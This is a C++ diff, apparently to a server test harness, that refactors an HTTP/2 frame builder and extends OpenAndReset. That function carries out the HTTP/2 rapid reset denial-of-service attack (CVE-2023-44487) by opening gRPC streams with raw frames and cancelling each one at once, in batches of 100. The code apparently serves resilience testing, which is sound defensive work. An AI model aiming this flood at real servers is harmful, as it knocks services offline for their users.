@@ -232,21 +232,25 @@ class RawConnection {
   bool connected_ = false;
 };
 
-// HTTP/2 rapid reset (CVE-2023-44487): opens streams with this path and resets each one at once. Ends early where the
-// other side ends the connection.
-inline void OpenAndReset(RawConnection* connection, const std::string& path, std::uint32_t streams) {
-  const auto frame = [](char type, char flags, std::uint32_t stream, const std::string& payload) {
-    const auto byte = [](std::size_t number, int shift) { return static_cast<char>(number >> shift & 0xff); };
-    std::string bytes = {byte(payload.size(), 16), byte(payload.size(), 8), byte(payload.size(), 0), type, flags};
-    for (int shift = 24; shift >= 0; shift -= 8) bytes.push_back(byte(stream, shift));
-    return bytes + payload;
-  };
+// A frame of HTTP/2.
+inline std::string HttpFrame(char type, char flags, std::uint32_t stream, const std::string& payload) {
+  const auto byte = [](std::size_t number, int shift) { return static_cast<char>(number >> shift & 0xff); };
+  std::string bytes = {byte(payload.size(), 16), byte(payload.size(), 8), byte(payload.size(), 0), type, flags};
+  for (int shift = 24; shift >= 0; shift -= 8) bytes.push_back(byte(stream, shift));
+  return bytes + payload;
+}
+
+// HTTP/2 rapid reset (CVE-2023-44487): opens streams with this path and, with `reset`, resets each one at once. No
+// settings are acknowledged. Ends early where the other side ends the connection.
+inline void OpenAndReset(RawConnection* connection, const std::string& path, std::uint32_t streams, bool reset = true) {
   const std::string header = std::string("\x83\x86\x44") + static_cast<char>(path.size()) + path + "\x41\x01" + "a" +
                              "\x40\x02te\x08trailers" + "\x5f\x10" + "application/grpc";
   const std::string cancel("\0\0\0\x08", 4);
-  std::string bytes = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, "");
+  std::string bytes = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HttpFrame(4, 0, 0, "");
+  if (streams == 0) connection->Say(bytes);
   for (std::uint32_t n = 0; n < streams; ++n) {
-    bytes += frame(1, 4, 2 * n + 1, header) + frame(3, 0, 2 * n + 1, cancel);
+    bytes += HttpFrame(1, 4, 2 * n + 1, header);
+    if (reset) bytes += HttpFrame(3, 0, 2 * n + 1, cancel);
     if (n % 100 != 99 && n + 1 != streams) continue;
     if (!connection->Say(bytes) || connection->Closed()) return;
     bytes.clear();
